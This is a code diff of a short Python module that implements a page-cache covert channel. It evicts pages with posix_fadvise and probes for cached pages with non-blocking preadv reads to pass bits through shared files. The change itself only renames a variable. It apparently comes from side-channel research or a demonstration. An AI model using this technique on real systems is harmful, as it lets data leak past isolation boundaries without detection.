@@ -2,21 +2,21 @@
 
 import os
 
-from attack import attack, kept, target, tell
+from attack import attack, held, target, tell
 
 
 @attack
 def _():
     bits = ""
     for place, file in enumerate(target.commons):
-        kept.append(os.open(file, os.O_RDONLY))
+        held.append(os.open(file, os.O_RDONLY))
         if target.message:
-            os.pread(kept[-1], 1, 0)
+            os.pread(held[-1], 1, 0)
             if target.message[place] == "1":
-                os.posix_fadvise(kept[-1], 0, 0, os.POSIX_FADV_DONTNEED)
+                os.posix_fadvise(held[-1], 0, 0, os.POSIX_FADV_DONTNEED)
             continue
         try:
-            os.preadv(kept[-1], [bytearray(1)], 0, os.RWF_NOWAIT)
+            os.preadv(held[-1], [bytearray(1)], 0, os.RWF_NOWAIT)
             bits += "0"
         except BlockingIOError:
             bits += "1"
